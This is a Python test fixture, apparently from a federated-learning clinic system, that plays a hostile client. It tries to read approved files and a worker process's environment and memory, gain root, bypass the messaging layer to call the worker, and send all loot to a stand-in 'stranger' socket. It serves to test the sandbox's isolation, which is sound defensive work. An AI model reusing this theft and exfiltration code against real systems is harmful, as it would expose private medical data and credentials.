"""What a hostile coordinator has a clinic's messenger run, for tests: it tries to get hold of everything.

It is told more than it could know: where all files are, and that of the worker's studies some are approved. Nothing
that it does would be harmful if it succeeded. Returns by deed and object what it `got`, or how it was `refused`.
"""

import base64
import contextlib
import importlib
import json
import os
import socket
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import numpy as np
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

from melfed.client.rpc.api import TrainReply
from melfed.client.rpc.remote import CHANNEL, RemoteWorker, address

ORDERS: dict[str, Any] = json.loads(Path(__file__).with_name("orders.json").read_text())
SECONDS = 60.0
Outcome = dict[str, Any]

with contextlib.suppress(OSError):
    Path(ORDERS["canary"], str(os.getpid())).touch()

app = ClientApp()


@app.query("steal")
def steal(message: Message, context: Context) -> Message:
    """Do everything, send it out, and return it."""
    loot = {
        "files": each(ORDERS["files"], lambda path: text(Path(path).read_bytes())),
        "folders": each(ORDERS["folders"], names_in),
        "writing": each(ORDERS["files"] + ORDERS["code"], opened_for_writing),
        "making": each(ORDERS["folders"] + ORDERS["shared"], made_in),
        "worker": worker_process(),
        "powers": powers(),
        "training": training(),
        "asks": {ask["name"]: attempt(asked, ask, context.run_id) for ask in ORDERS["asks"]},
        "methods": each(ORDERS["methods"], method),
    }
    outwards = attempt(sent, json.dumps(loot))
    content = ConfigRecord({"json": json.dumps({**loot, "outwards": {"": outwards}})})
    return Message(RecordDict({"loot": content}), reply_to=message)


def attempt(deed: Callable[..., Any], *arguments: Any) -> Outcome:
    try:
        return {"got": deed(*arguments)}
    except Exception as error:  # noqa: BLE001 (whatever it is, it is what stopped it)
        return {"refused": f"{type(error).__name__}: {error}"}


def each(things: Iterable[str], deed: Callable[[str], Any]) -> dict[str, Outcome]:
    return {thing: attempt(deed, thing) for thing in things}


def text(content: bytes) -> str:
    return base64.b64encode(content).decode()


def names_in(folder: str | Path) -> list[str]:
    return [path.name for path in Path(folder).iterdir()]


def opened_for_writing(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "could be written"


def made_in(folder: str) -> str:
    made = Path(folder, ".hostile")
    made.touch(exist_ok=False)
    made.unlink()
    return "a file could be made"


def worker_process() -> dict[str, Outcome]:
    """What the kernel tells of the worker, and whether it can be ended."""
    place = Path("/proc", str(ORDERS["worker"]))
    whole: dict[str, Callable[[], Any]] = {
        "environ": lambda: text((place / "environ").read_bytes()),
        "maps": lambda: (place / "maps").read_text()[:100],
        "mem": lambda: (place / "mem").open("rb").close(),
        "root": lambda: names_in(place / "root"),
        "working directory": lambda: names_in(place / "cwd"),
        "open files": lambda: names_in(place / "fd"),
        "signal": lambda: os.kill(ORDERS["worker"], 0),
    }
    return {name: attempt(deed) for name, deed in whole.items()}


def powers() -> dict[str, Outcome]:
    """Whether it can become somebody else."""
    whole: dict[str, Callable[[], Any]] = {
        "root": lambda: os.seteuid(0),
        "groups": lambda: os.setgroups([0]),
        "status": lambda: Path("/proc/self/status").read_text(),
    }
    return {name: attempt(deed) for name, deed in whole.items()}


def training() -> dict[str, Outcome]:
    """Whether it can train by itself."""
    whole: dict[str, Callable[[], Any]] = {"torch": lambda: importlib.import_module("torch").__name__, "model": trained}
    return {name: attempt(deed) for name, deed in whole.items()}


def trained() -> list[float]:
    torch = importlib.import_module("torch")
    image = importlib.import_module("PIL.Image")
    paths = [path for path in ORDERS["files"] if path.endswith((".jpg", ".png"))]
    pixels = [np.asarray(image.open(path).convert("L").resize((8, 8)), np.float32).ravel() for path in paths]
    model = torch.nn.Linear(64, 1)
    optimizer = torch.optim.SGD(model.parameters(), lr=0.01)
    model(torch.tensor(np.stack(pixels))).square().mean().backward()
    optimizer.step()
    weights: list[float] = model.weight.flatten().tolist()
    return weights


def asked(ask: dict[str, Any], flower_run: int) -> Any:
    """Ask the worker, past melfed's own messenger."""
    worker = RemoteWorker(Path(ORDERS["socket"]), ask["study"], SECONDS, flower_run)
    if ask["kind"] == "describe":
        return worker.describe().counts
    tensors = {name: np.zeros(shape, np.float32) for name, shape in ask["tensors"].items()}
    if ask["kind"] == "evaluate":
        scored = worker.evaluate(tensors, ask["digest"], ask["run"])
        return {part: histogram.to_lists() for part, histogram in scored.items()}
    reply: TrainReply = worker.train(tensors, ask["round"], ask["digest"], ask["run"])
    return {name: text(tensor.tobytes()) for name, tensor in reply.tensors.items()}


def method(path: str) -> str:
    """Call a method of the worker's server that might be there."""
    import grpc

    with grpc.insecure_channel(address(Path(ORDERS["socket"])), CHANNEL) as channel:
        answer: bytes = channel.unary_unary(path)(b"", timeout=SECONDS)
    return text(answer)


def sent(loot: str) -> int:
    """Send everything to a stranger."""
    with socket.create_connection(("127.0.0.1", ORDERS["stranger"]), 10) as line:
        line.sendall(loot.encode())
    return len(loot)
